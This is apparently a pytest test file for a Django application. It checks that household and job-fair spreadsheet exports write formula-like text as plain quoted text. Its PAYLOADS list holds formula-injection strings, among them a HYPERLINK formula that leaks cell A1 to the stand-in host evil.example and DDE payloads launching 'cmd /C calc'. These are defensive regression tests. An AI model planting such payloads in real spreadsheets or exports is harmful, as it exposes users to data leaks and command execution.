"""Finding 2: text that a spreadsheet could read as a formula (= + - @, or a tab or carriage
return before one) is written as text by every export, through ``core.spreadsheets``."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook

from core import spreadsheets
from fairs.exporting import report_workbook
from fairs.selectors import fair_report
from households.models import Household, MemberSkill
from tests.factories import HouseholdFactory, MemberFactory
from tests.fairs.conftest import make_fair
from tests.jobs.conftest import make_employer

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_text(cells: list[Any], payload: str) -> None:
    # XML reads a carriage return back as a line feed; the cell is still the person's text.
    found = [c for c in cells if c.value in (payload, payload.replace("\r", "\n"))]
    assert found, f"{payload!r} is missing from the workbook"
    for c in found:
        assert c.data_type == "s", f"{payload!r} was written as {c.data_type!r}"
        assert c.quotePrefix, f"{payload!r} would become a formula when edited"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_household_export_writes_typed_text_as_text(client: Client, tree: Any, people: Any, payload: str) -> None:
    household = HouseholdFactory(org_unit=tree.station_a, address=payload, hardship_note=payload)
    member = MemberFactory(household=household, name=payload, major=payload)
    MemberSkill.objects.create(member=member, phrase=payload)
    client.force_login(people.olga)

    response = client.post(reverse("households:export"), {"state": Household.State.ACTIVE})

    assert response.status_code == 200
    _assert_text(_cells(response.content), payload)


def test_an_exported_formula_lookalike_reads_back_unchanged_for_a_new_import(tree: Any, people: Any) -> None:
    """No apostrophe is added: the value is the person's text, so the export can be imported back."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    spreadsheets.append_row(sheet, ["=1+1", "+86 139", "plain", 42, None])

    row = next(openpyxl.load_workbook(io.BytesIO(spreadsheets.workbook_bytes(book))).worksheets[0].iter_rows())

    assert [c.value for c in row] == ["=1+1", "+86 139", "plain", 42]
    assert [c.quotePrefix for c in row] == [True, True, False, False]


def test_characters_a_workbook_cannot_hold_are_dropped_instead_of_failing_the_export(tree: Any) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    spreadsheets.append_row(sheet, ["a\x01b\x1fc"])

    row = next(openpyxl.load_workbook(io.BytesIO(spreadsheets.workbook_bytes(book))).worksheets[0].iter_rows())

    assert row[0].value == "abc"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_fair_report_writes_names_as_text(tree: Any, people: Any, payload: str) -> None:
    from fairs.models import Booth

    fair = make_fair(tree.county, name=payload)
    company = make_employer(people.eve, tree.county, name=payload)
    Booth.objects.create(fair=fair, employer=company, code="A01", status=Booth.Status.APPROVED)

    content = report_workbook(fair_report(people.alice, fair))

    _assert_text(_cells(content), payload)
